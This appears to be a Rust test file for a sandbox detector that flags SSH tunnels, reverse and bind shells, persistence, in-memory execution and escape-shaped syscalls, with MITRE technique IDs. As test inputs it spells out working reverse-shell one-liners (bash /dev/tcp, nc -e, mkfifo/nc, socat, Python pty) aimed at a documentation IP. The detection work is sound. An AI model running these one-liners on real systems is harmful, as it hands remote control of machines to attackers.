//! Detectors over `proc.exec` and `sys.denied`: tunnels, shells, exec-side
//! persistence and evasion, escapes.

mod common;
use common::*;
use corral_detect::{Response, Severity};
use serde_json::json;

#[test]
fn ssh_port_forwarding_is_a_tunnel() {
    let mut run = Run::new();
    assert_eq!(
        run.exec(
            0,
            10,
            1,
            &["ssh", "-fNR", "9000:localhost:22", "user@203.0.113.5"]
        ),
        ["tunnel.ssh"]
    );
    let f = run.get("tunnel.ssh");
    assert_eq!(
        (f.severity, f.response, f.technique.as_str()),
        (Severity::Critical, Response::Kill, "T1572")
    );
    assert!(
        f.explanation.contains("-R 9000:localhost:22"),
        "{}",
        f.explanation
    );
    assert_eq!(
        run.exec(1, 11, 1, &["/usr/bin/ssh", "-D", "1081", "h"]),
        ["tunnel.ssh"]
    );
    assert_eq!(
        run.exec(
            2,
            12,
            1,
            &["ssh", "-o", "RemoteForward=8080 localhost:80", "h"]
        ),
        ["tunnel.ssh"]
    );
    assert_eq!(
        run.exec(3, 13, 1, &["ssh", "-J", "jump.example", "h"]),
        ["tunnel.ssh-proxy"]
    );
    assert_eq!(run.get("tunnel.ssh-proxy").severity, Severity::High);
    assert_eq!(
        run.exec(
            4,
            14,
            1,
            &["autossh", "-M", "0", "-N", "-R", "2222:localhost:22", "h"]
        ),
        ["tunnel.autossh", "tunnel.ssh"]
    );
}

#[test]
fn plain_ssh_and_ssh_through_corrals_proxy_are_fine() {
    let mut run = Run::new();
    run.exec(0, 10, 1, &["ssh", "-T", "git@github.com"]);
    run.exec(
        1,
        11,
        1,
        &[
            "ssh",
            "-o",
            "SendEnv=GIT_PROTOCOL",
            "git@github.com",
            "git-upload-pack 'a/b.git'",
        ],
    );
    run.exec(
        2,
        12,
        1,
        &[
            "ssh",
            "-o",
            "ProxyCommand=nc -X connect -x 127.0.0.1:3128 %h %p",
            "git@github.com",
        ],
    );
    run.exec(
        3,
        13,
        1,
        &[
            "ssh",
            "-oProxyCommand=socat - SOCKS5:127.0.0.1:%h:%p,socksport=1080",
            "h",
        ],
    );
    run.exec(4, 14, 1, &["ssh", "host", "ls", "-R", "/"]);
    run.exec(
        5,
        15,
        1,
        &["ssh", "-l", "me", "-p", "2222", "-i", "key", "host"],
    );
    assert!(run.found.is_empty(), "{:?}", run.found);
}

#[test]
fn reverse_and_bind_shells_by_argv() {
    let mut run = Run::new();
    assert_eq!(
        run.exec(
            0,
            20,
            1,
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]
        ),
        ["shell.reverse"]
    );
    let f = run.get("shell.reverse");
    assert_eq!(
        (f.severity, f.response, f.technique.as_str()),
        (Severity::Critical, Response::Kill, "T1059.004")
    );
    assert_eq!(
        run.exec(1, 21, 1, &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
        ["shell.reverse"]
    );
    assert_eq!(
        run.exec(2, 22, 1, &["ncat", "-lvnp", "4444", "-e", "/bin/bash"]),
        ["shell.bind"]
    );
    assert_eq!(
        run.exec(
            3,
            23,
            1,
            &["socat", "TCP:203.0.113.5:9", "EXEC:/bin/sh,pty,stderr"]
        ),
        ["shell.reverse"]
    );
    assert_eq!(
        run.exec(4, 24, 1, &["socat", "TCP-LISTEN:9,fork", "SYSTEM:bash"]),
        ["shell.bind"]
    );
    assert_eq!(
        run.exec(
            5,
            25,
            1,
            &[
                "sh",
                "-c",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"
            ]
        ),
        ["shell.reverse"]
    );
    assert_eq!(
        run.exec(6, 26, 1, &["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"]),
        ["shell.reverse"]
    );
    let mut quiet = Run::new();
    quiet.exec(0, 30, 1, &["nc", "-zv", "localhost", "8080"]);
    quiet.exec(
        1,
        31,
        1,
        &["socat", "-", "PROXY:127.0.0.1:github.com:22,proxyport=3128"],
    );
    quiet.exec(
        2,
        32,
        1,
        &["socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"],
    );
    quiet.exec(
        3,
        33,
        1,
        &["bash", "-c", "curl -s https://example.com | wc -l"],
    );
    quiet.exec(
        4,
        34,
        1,
        &[
            "python3",
            "-c",
            "import socket; print(socket.gethostname())",
        ],
    );
    quiet.exec(5, 35, 1, &["cat", "/dev/tcp/notes.txt"]);
    assert!(quiet.found.is_empty(), "{:?}", quiet.found);
}

fn exec_with_stdio(
    run: &mut Run,
    at: u64,
    pid: u32,
    ppid: u32,
    argv: &[&str],
    stdio: serde_json::Value,
) -> Vec<String> {
    run.ev(
        at,
        "proc.exec",
        json!({ "pid": pid, "ppid": ppid, "path": argv[0], "argv": argv, "stdio": stdio }),
    )
}

#[test]
fn a_shell_reading_commands_from_a_connected_socket() {
    // The parent connected out (through corral's SOCKS port), then ran a
    // shell on the socket.
    let mut run = Run::new();
    run.exec(0, 40, 1, &["/usr/bin/python3", "x.py"]);
    run.sock(10, "sock.connect", 40, "inet", "127.0.0.1:1080");
    assert_eq!(
        exec_with_stdio(
            &mut run,
            20,
            41,
            40,
            &["/bin/sh", "-i"],
            json!(["socket", "socket", "socket"])
        ),
        ["shell.reverse"]
    );
    // The process itself connected, then exec'd (nc -e style).
    run.sock(30, "sock.connect", 42, "inet6", "[::1]:3128");
    assert_eq!(
        exec_with_stdio(
            &mut run,
            40,
            42,
            1,
            &["/bin/bash"],
            json!(["socket", "socket", "pipe"])
        ),
        ["shell.reverse"]
    );
}

#[test]
fn an_agent_running_commands_over_socketpairs_is_not_a_reverse_shell() {
    let mut run = Run::new();
    // A node agent talks to its API through the proxy and runs tools with
    // socketpairs as stdio (libuv does).
    run.exec(0, 50, 1, &["/usr/bin/node", "agent.js"]);
    run.sock(10, "sock.connect", 50, "inet", "127.0.0.1:3128");
    exec_with_stdio(
        &mut run,
        20,
        51,
        50,
        &["/bin/bash", "-c", "ls -la"],
        json!(["socket", "socket", "socket"]),
    );
    exec_with_stdio(
        &mut run,
        21,
        52,
        50,
        &["/bin/bash", "-lc", "cargo test"],
        json!(["socket", "socket", "socket"]),
    );
    // Unix sockets, whatever the program.
    exec_with_stdio(
        &mut run,
        22,
        53,
        50,
        &["/bin/sh"],
        json!(["socket:unix", "socket:unix", "pipe"]),
    );
    // No connect by the pid or its parent.
    exec_with_stdio(
        &mut run,
        23,
        54,
        99,
        &["/bin/sh"],
        json!(["socket", "socket", "socket"]),
    );
    // Only stdin a socket; no stdio at all.
    exec_with_stdio(
        &mut run,
        24,
        55,
        50,
        &["/bin/sh"],
        json!(["socket", "pipe", "pipe"]),
    );
    run.exec(25, 56, 50, &["/bin/sh"]);
    assert!(run.found.is_empty(), "{:?}", run.found);
}

#[test]
fn exec_side_persistence() {
    let mut run = Run::new();
    assert_eq!(run.exec(0, 60, 1, &["crontab", "-"]), ["persist.cron"]);
    assert_eq!(
        run.exec(1, 61, 1, &["/usr/bin/at", "now", "+", "1", "minute"]),
        ["persist.at"]
    );
    assert_eq!(
        run.exec(
            2,
            62,
            1,
            &["systemctl", "--user", "enable", "--now", "x.service"]
        ),
        ["persist.systemd"]
    );
    assert_eq!(run.get("persist.cron").technique, "T1053.003");
    let mut quiet = Run::new();
    quiet.exec(0, 63, 1, &["crontab", "-l"]);
    quiet.exec(1, 64, 1, &["systemctl", "status", "x"]);
    quiet.exec(2, 65, 1, &["systemctl", "is-enabled", "x"]);
    assert!(quiet.found.is_empty(), "{:?}", quiet.found);
}

#[test]
fn exec_from_memory_and_from_dev_shm() {
    let mut run = Run::new();
    assert_eq!(
        run.exec(0, 70, 1, &["/memfd:payload (deleted)"]),
        ["evasion.memfd"]
    );
    assert_eq!(run.exec(1, 71, 1, &["/proc/self/fd/5"]), ["evasion.memfd"]);
    assert_eq!(run.exec(2, 72, 1, &["/dev/fd/3", "x"]), ["evasion.memfd"]);
    assert_eq!(
        run.ev(
            3,
            "proc.exec",
            json!({ "pid": 73, "ppid": 1, "path": "", "dirfd": 4, "argv": ["x"] })
        ),
        ["evasion.memfd"]
    );
    assert_eq!(run.exec(4, 74, 1, &["/dev/shm/.x/run"]), ["evasion.shm"]);
    assert_eq!(run.get("evasion.memfd").technique, "T1620");
    let mut quiet = Run::new();
    quiet.exec(0, 75, 1, &["/proc/self/exe", "--child"]);
    quiet.exec(1, 76, 1, &["/usr/bin/env", "memfd:x"]);
    quiet.ev(
        2,
        "proc.exec",
        json!({ "pid": 77, "path": "/dev/shm/x", "argv": ["x"], "found": false }),
    );
    assert!(quiet.found.is_empty(), "{:?}", quiet.found);
}

#[test]
fn running_what_the_run_downloaded_is_low_and_what_it_built_is_nothing() {
    let mut run = Run::new();
    run.exec(
        0,
        80,
        1,
        &["/usr/bin/curl", "-o", "tool", "https://example.com/tool"],
    );
    run.write(10, 80, "create", "/home/me/proj/tool");
    // Run by a relative path, from the workspace.
    assert_eq!(
        run.exec(20, 81, 1, &["./tool", "--help"]),
        ["evasion.written-exec"]
    );
    let f = run.get("evasion.written-exec");
    assert_eq!((f.severity, f.response), (Severity::Low, Response::Log));
    assert!(
        f.explanation.contains("/home/me/proj/tool"),
        "{}",
        f.explanation
    );
    // Run again: no second finding.
    assert!(run.exec(30, 82, 1, &["./tool"]).is_empty());
    // The linker's output.
    let mut quiet = Run::new();
    quiet.exec(
        0,
        90,
        1,
        &["/usr/bin/x86_64-linux-gnu-ld.bfd", "-o", "a.out"],
    );
    quiet.write(1, 90, "create", "/home/me/proj/a.out");
    quiet.exec(2, 91, 1, &["./a.out"]);
    quiet.exec(3, 92, 1, &["rustc", "main.rs"]);
    quiet.open(
        4,
        92,
        "/home/me/proj/main",
        &["O_WRONLY", "O_CREAT", "O_TRUNC"],
    );
    quiet.exec(5, 93, 1, &["/home/me/proj/main"]);
    assert!(quiet.found.is_empty(), "{:?}", quiet.found);
}

#[test]
fn escape_shaped_denials() {
    let mut run = Run::new();
    assert_eq!(
        run.denied(0, 5, "ptrace", &[16, 1, 0, 0, 0, 0]),
        ["escape.ptrace"]
    );
    assert_eq!(
        run.denied(1, 5, "socket", &[17, 3, 768, 0, 0, 0]),
        ["escape.socket"]
    );
    assert_eq!(
        run.denied(2, 5, "fchmodat", &[4294967196, 1, 0o4755, 0, 0, 0]),
        ["escape.setid"]
    );
    assert_eq!(
        run.denied(3, 5, "unshare", &[0x10000000, 0, 0, 0, 0, 0]),
        ["escape.unshare"]
    );
    assert_eq!(
        run.denied(4, 5, "ioctl", &[0, 0x5412, 0, 0, 0, 0]),
        ["escape.ioctl"]
    );
    let f = run.get("escape.socket");
    assert_eq!(
        (f.severity, f.response, f.technique.as_str()),
        (Severity::High, Response::Alert, "T1040")
    );
    assert!(
        f.explanation.contains("socket(AF_PACKET)"),
        "{}",
        f.explanation
    );
    assert!(run.get("escape.ioctl").explanation.contains("TIOCSTI"));
    // Once per pid: a loop of refused calls is one finding.
    for at in 5..50 {
        assert!(run.denied(at, 5, "ptrace", &[16, 1, 0, 0, 0, 0]).is_empty());
    }
    assert_eq!(run.denied(50, 6, "ptrace", &[0; 6]), ["escape.ptrace"]);
    // Refused on purpose for a libc fallback, or not escape-shaped.
    let mut quiet = Run::new();
    for call in [
        "clone3",
        "openat2",
        "personality",
        "syslog",
        "sched_setaffinity",
        "reboot",
    ] {
        quiet.denied(0, 5, call, &[0; 6]);
    }
    assert!(quiet.found.is_empty(), "{:?}", quiet.found);
}
